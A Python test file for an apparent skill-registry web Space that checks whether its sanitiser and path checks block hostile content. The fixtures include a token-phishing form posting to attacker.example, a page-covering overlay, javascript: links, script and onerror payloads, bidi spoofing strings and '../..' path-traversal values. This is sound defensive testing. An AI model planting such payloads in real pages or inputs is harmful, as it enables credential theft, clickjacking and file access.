"""Hostile text on the Space, in a real browser: a skill's HTML and an agent's file names.

A published SKILL.md carries a form asking for a token and a `position:fixed` overlay the size
of the page; an agent-chosen file name holds a backtick and then the same HTML, in the
transcript view. The page must show neither a form nor an input from that text, and the
overlay must cover nothing: `elementFromPoint` at the centre of the files table and of the
security scan still finds them. Chromium is driven as in `test_space_browser`.
"""

from __future__ import annotations

import json
from pathlib import Path

import gradio as gr
import pytest
from test_space import free_port
from test_space_browser import page, pull_command, wait_for_rows  # noqa: F401 - a fixture

from registry import code_span, safe_html
from registry.config import Settings
from space import build_demo, launch
from space.transcripts import transcript_views

pytestmark = pytest.mark.slow

FORM = ('<form action="https://attacker.example/steal" id="steal">'
        '<input name="token" placeholder="Paste your Hugging Face token">'
        '<button>Verify</button></form>')
OVERLAY = ('<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;'
           'z-index:2147483647;background:#fff" onclick="alert(1)">Sign in again</div>')
HOSTILE_NAME = f"notes` {FORM} {OVERLAY} `.md"
REPO = "mallory/overlay"
NO_FORMS = """() => [...document.querySelectorAll('form, input[name=token], button')]
    .filter(e => e.closest('form#steal') || e.name === 'token' || e.id === 'steal'
                 || e.innerText === 'Verify').length"""
COVERED = """(id) => { const box = document.getElementById(id);
    box.scrollIntoView({block: 'center'});
    const r = box.getBoundingClientRect();
    const hit = document.elementFromPoint(r.left + r.width / 2, r.top + r.height / 2);
    return hit && box.contains(hit) ? '' : (hit ? hit.outerHTML.slice(0, 200) : 'nothing'); }"""
FIXED = """() => [...document.querySelectorAll('#skill-body *, #skill-header *, #t-skill *')]
    .filter(e => getComputedStyle(e).position === 'fixed').length"""


def hostile_skill(root: Path) -> Path:
    folder = root / "overlay"
    (folder / "evals").mkdir(parents=True)
    (folder / "SKILL.md").write_text(
        "---\nname: overlay\ndescription: "
        + json.dumps(f"Helps with overlays. Use when drawing. {FORM}") + "\nmetadata:"
        f"\n  version: \"1.0.0\"\n---\n\n# Overlay\n\n{FORM}\n\n{OVERLAY}\n\n"
        "Plain text [a link](https://example.org) and [a script](javascript:alert(1)).\n")
    (folder / "evals" / "evals.json").write_text(json.dumps({
        "skill_name": "overlay",
        "cases": [{"id": "c1", "prompt": "p", "checks": [{"type": "contains", "value": "x"}]}]}))
    (folder / "notes.md").write_text(f"{FORM}\n")
    return folder


@pytest.fixture
def hostile_space(tmp_path):
    settings = Settings.from_env({"HUBSKILLS_HOME": str(tmp_path / "home"),
                                  "HF_HUB_OFFLINE": "1"})
    demo = build_demo(settings, on_space=False)
    demo.hubskills_state.store.publish(hostile_skill(tmp_path), repo=REPO, version="1.0.0")
    demo.hubskills_state.invalidate()
    _, url, _ = launch(demo, server_name="127.0.0.1", server_port=free_port(),
                       prevent_thread_lock=True, quiet=True)
    yield url
    demo.close()


def test_a_skill_pages_html_renders_no_form_and_covers_nothing(hostile_space, page):  # noqa: F811
    page.goto(f"{hostile_space}?skill={REPO}")
    assert pull_command(page) == f"hubskills pull {REPO}@v1.0.0"
    page.locator("#skill-body").get_by_text("Plain text").wait_for()
    page.locator("#skill-findings").get_by_text("finding", exact=False).first.wait_for()
    wait_for_rows(page, "skill-files", "text.includes(' B')")  # every row has its size
    assert page.evaluate(NO_FORMS) == 0
    assert page.evaluate(FIXED) == 0
    assert page.evaluate(COVERED, "skill-files") == ""
    assert page.evaluate(COVERED, "skill-findings") == ""
    links = page.locator("#skill-body a").evaluate_all("as => as.map(a => a.href)")
    assert links == ["https://example.org/"]  # the javascript: link lost its target


def transcript_record(tmp_path: Path) -> Path:
    """A run folder with one skill-arm transcript whose file name and tool are hostile."""
    runs = tmp_path / "runs"
    (runs / "r1").mkdir(parents=True)
    record = {"run_id": "r1", "case_id": "c1", "repeat": 0, "arm": "skill", "model": "m",
              "protocol": "tools", "stop_reason": "answered",
              "transcript": [{"kind": "tool_call", "tool": f"write` {FORM} `", "arguments": {}},
                             {"kind": "tool_result", "text": f"```` {OVERLAY}"}],
              "diff": [{"status": "added", "path": HOSTILE_NAME, "note": ""}]}
    (runs / "r1" / "transcripts.jsonl").write_text(json.dumps(record) + "\n")
    return runs


def test_an_agents_file_name_cannot_leave_its_code_span(tmp_path, page):  # noqa: F811
    _, skill = transcript_views(transcript_record(tmp_path), "r1", "c1")
    with gr.Blocks() as demo:
        gr.Markdown(skill, elem_id="t-skill")  # as the Evaluate tab shows a transcript
        gr.Dataframe([["notes.md", "1 KB"]], headers=["file", "size"], elem_id="t-files")
    _, url, _ = demo.launch(server_name="127.0.0.1", server_port=free_port(),
                            prevent_thread_lock=True, quiet=True)
    try:
        page.goto(url)
        page.locator("#t-skill").get_by_text("Workspace diff").wait_for()
        wait_for_rows(page, "t-files", "text.includes('notes.md')")
        assert page.evaluate(NO_FORMS) == 0
        assert page.evaluate(FIXED) == 0
        assert page.evaluate(COVERED, "t-files") == ""
        assert page.locator("#t-skill code").filter(has_text="<form").count() == 2  # as text
    finally:
        demo.close()


def test_the_sanitiser_keeps_a_skill_pages_markdown_and_drops_the_rest():
    shown = safe_html("# T\n\n| a | b |\n|---|---|\n| `x` | **y** |\n\n- [ok](https://x.org)\n"
                      f"\n```py\nprint(1)\n```\n\n{FORM}\n\n{OVERLAY}\n\n<img src=x onerror=y>"
                      "<iframe src=x></iframe><style>*{}</style><script>alert(1)</script>")
    for kept in ("<h1>T</h1>", "<table>", "<code>x</code>", "<strong>y</strong>",
                 '<a href="https://x.org"', "<pre><code>print(1)"):
        assert kept in shown, shown
    for dropped in ("<form", "<input", "<button", "style", "<div style", "onclick", "<img",
                    "<iframe", "<script", "alert(1)", "id=", "class="):
        assert dropped not in shown, (dropped, shown)
    assert "\n" not in shown  # one raw HTML block: nothing in it is read as Markdown again
    # a link into the skill's own files keeps its text: the page is not where the files are
    relative = safe_html("See [the agents](references/agents.md) and [top](#top), [x](/x).")
    assert "the agents" in relative and "href" not in relative, relative
    assert code_span("a ``` b") == "````a ``` b````" and code_span("`x") == "`` `x ``"


def test_bidi_controls_are_named_not_obeyed():
    """Red-team round 4: a U+202E in a SKILL.md description showed "gnitset" as "testing" in
    the skill page's header; the page now names each bidi control instead."""
    shown = safe_html("Formats \u202egnitset\u202c and \u2067isolates\u2069; keeps العربية")
    assert "[U+202E]gnitset[U+202C]" in shown and "[U+2067]isolates[U+2069]" in shown
    assert not any(c in shown for c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
    assert "العربية" in shown  # right-to-left text itself is shown as written
    # nor by reference, which the renderer decodes into the character (a review note)
    assert safe_html("a &#x202E;gnitset &#8238;x") == \
        "<div><p>a [U+202E]gnitset [U+202E]x</p></div>"
    from registry import named_bidi

    assert named_bidi("m/x&#x2067;y\u202d") == "m/x[U+2067]y[U+202D]"  # a table's id cell


def test_a_rows_repo_or_revision_never_names_a_folder_of_the_server(tmp_path):
    """Red-team round 5 (a suspicion, confirmed here): the Review tab fetched a run's skill into
    `home/space/skills/<repo>/<sha>/` from the repo and revision its rows name, unchecked, so a
    `../..` there would have read (or made) a folder of the server's."""
    from registry import HubskillsError
    from registry.registries import get_store
    from space.state import SpaceState

    settings = Settings.from_env({"HUBSKILLS_HOME": str(tmp_path / "home"),
                                  "HF_HUB_OFFLINE": "1"})
    outside = tmp_path / "home" / "elsewhere" / "x"
    outside.mkdir(parents=True)
    state = SpaceState(settings, get_store(settings), on_space=False)
    try:
        for repo, sha in (("../elsewhere/x", "0" * 40), ("a/b", "../../elsewhere"),
                          ("../../..", "0" * 40)):
            with pytest.raises(HubskillsError):
                state.skill_folder(repo, sha)
    finally:
        state.data.stop()
    assert not (tmp_path / "home" / "space").exists()  # nothing made on the way either
